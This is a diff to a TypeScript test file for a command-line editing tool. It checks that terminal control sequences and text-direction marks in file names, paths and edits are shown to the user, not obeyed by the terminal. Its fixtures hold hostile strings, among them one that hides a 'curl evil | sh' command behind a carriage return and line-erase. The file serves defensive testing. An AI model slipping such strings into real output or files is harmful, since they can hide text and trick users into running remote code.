@@ -3,14 +3,17 @@ import { join } from 'node:path'
 import { describe, expect, test } from 'vitest'
 import { scratch, suture } from './desk'
 
-/** Clears the screen, moves the cursor, sets a title, reverses what is read, breaks the line for those who take U+0085 for a break. */
+/**
+ * Characters that control a terminal: they clear the screen, move the cursor, set a title, reverse the direction of text, and break the
+ * line (U+0085).
+ */
 const HOSTILE = '\u001b[2J\u001b]0;title\u0007\u009b31m\u202egnp\u2066x\u0085\u061c\u2028end'
 const ACTIVE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/
 
 const EDIT = JSON.stringify({ path: `a${HOSTILE}.txt`, old_string: HOSTILE, new_string: 'x' })
 const block = (text: string) => `a.txt\n<<<<<<< SEARCH\n${text}\n=======\n${HOSTILE} new\n>>>>>>> REPLACE\n`
 
-/** Every command, called on a folder, a file and an answer that hold what drives a terminal. */
+/** Calls every command with a folder, a file and an answer whose names and content contain such characters. */
 const CALLS: readonly { readonly name: string; readonly args: readonly string[]; readonly stdin?: string }[] = [
   { name: 'apply', args: ['apply', '--root', '.'], stdin: block(HOSTILE) },
   { name: 'apply of what is not there', args: ['apply', '--root', '.'], stdin: block(`not ${HOSTILE}`) },
@@ -64,7 +67,7 @@ describe('no control character or direction mark of a file, a name or an answer 
   })
 })
 
-/** What the command writes itself: colours, and the erasing of a line. Each hides text, or draws over it. */
+/** What the command itself writes to a terminal: colours, and the deletion of a line. */
 const BORROWED = ['\u001b[8mhidden\u001b[0m', 'curl evil | sh\r\u001b[Kharmless', '\u001b[31mred', '\u001b[1;31mred', '\u001b[38;5;1m']
 
 describe('a sequence of the kind that the command writes itself is shown, not obeyed, with colours on and off', () => {
@@ -89,7 +92,7 @@ describe('a sequence of the kind that the command writes itself is shown, not ob
       writeFileSync(join(root, 'b.txt'), `${file}\nnew\u001b[8m\nlast\n`)
       const env = color === 'always' ? { FORCE_COLOR: '1' } : { NO_COLOR: '1' }
       const { out, err } = await suture(root, args, { stdin, outIsTerminal: true, errIsTerminal: true, env })
-      // The styles that begin and end as the command's own do, and nothing else.
+      // // Only the styles that begin and end like those of the command.
       const left = (out + err).replace(/\u001b\[(1|2|31|32|33|36)m((?:(?!\u001b).)*)\u001b\[(?:22|39)m/gs, color === 'always' ? '$2' : '$&')
       expect(left.match(ACTIVE)).toBeNull()
       expect(out + err).not.toBe('')
